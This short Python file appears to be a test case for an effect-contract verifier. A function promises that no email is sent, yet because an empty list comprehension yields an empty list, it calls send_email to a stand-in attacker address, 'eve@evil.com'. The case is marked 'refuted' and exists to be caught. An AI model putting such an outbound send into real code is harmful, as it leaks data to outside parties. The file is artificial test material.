# refuted: a comprehension over an empty list is an empty list
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    xs = []
    ys = [x + 1 for x in xs]
    if len(ys) == 0:
        send_email("eve@evil.com", "x")
